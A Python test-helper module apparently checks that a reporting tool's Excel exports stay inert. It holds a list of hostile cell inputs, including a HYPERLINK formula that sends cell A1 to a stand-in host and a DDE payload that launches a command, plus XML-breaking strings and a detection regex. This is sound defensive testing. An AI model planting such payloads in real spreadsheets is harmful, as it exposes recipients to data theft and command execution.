"""What stands in a workbook, by two readers that are not its writer: its XML, and calamine."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from io import BytesIO
from xml.etree import ElementTree

from pandas import DataFrame
from python_calamine import CalamineWorkbook

from csperf.reporting.display import ColumnView
from csperf.reporting.spreadsheet import Cover, Sheet, workbook_bytes
from csperf.reporting.text import Messages

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
COVER = Cover("Team, 2026-10", "Department", "Proposed: nothing is decided.", date(2026, 10, 31))
ENGLISH = Messages.load("en")
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=1+1",
    "{=1+1}",
    "http://x.example/",
    "mailto:x@x.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "00123",
    "1e5",
    "TRUE",
    "<r><t>x</t></r>",
    "<r></t></si><si><t>y</r>",
    "</t></si>&amp;<f>1</f>",
    "_x0041_",
    " two  spaces ",
    "\u202eabc",
    "李小龙\n김민준",
]


def one_sheet(columns: list[ColumnView], frame: DataFrame, **more: object) -> bytes:
    """A workbook of one sheet."""
    sheet = Sheet("people", "People", frame, columns, **more)  # type: ignore[arg-type]
    return workbook_bytes([sheet], COVER, ENGLISH)


def texts(*said: str) -> bytes:
    """A workbook with these texts below the heading `Said`."""
    return one_sheet([ColumnView("said", "Said")], DataFrame({"said": said}, dtype=object))


def read(book: bytes) -> dict[str, list[list[object]]]:
    """The cells of each sheet, row by row; empty ones are empty text."""
    opened = CalamineWorkbook.from_filelike(BytesIO(book))
    return {name: opened.get_sheet_by_name(name).to_python() for name in opened.sheet_names}


def parts(book: bytes) -> dict[str, str]:
    """The files within a workbook; every one is XML."""
    with zipfile.ZipFile(BytesIO(book)) as opened:
        found = {name: opened.read(name).decode() for name in opened.namelist()}
    for text in found.values():
        ElementTree.fromstring(text)
    return found


def cells(book: bytes, sheet: int = 1) -> dict[str, ElementTree.Element]:
    """The cells of a sheet, by their place such as A2."""
    root = ElementTree.fromstring(parts(book)[f"xl/worksheets/sheet{sheet}.xml"])
    return {cell.attrib["r"]: cell for cell in root.iter(f"{MAIN}c")}


def shown_as(book: bytes, place: str) -> str:
    """The number format of a cell."""
    styles = ElementTree.fromstring(parts(book)["xl/styles.xml"])
    own = {
        each.attrib["numFmtId"]: each.attrib["formatCode"] for each in styles.iter(f"{MAIN}numFmt")
    }
    known = {"3": "#,##0", "4": "#,##0.00", "9": "0%", "49": "@", **own}
    looks = [look.attrib["numFmtId"] for look in styles.find(f"{MAIN}cellXfs")]  # type: ignore[union-attr]
    return known[looks[int(cells(book)[place].attrib["s"])]]


def runs(book: bytes) -> list[str]:
    """Everything in a workbook that could compute, lead or load; nothing should."""
    marks = r"<f[ >]|<hyperlink|externalLink|TargetMode|<definedName[^>]*Print_Area|vbaProject"
    return [
        f"{name}: {found}"
        for name, text in parts(book).items()
        for found in re.findall(marks, text)
    ]
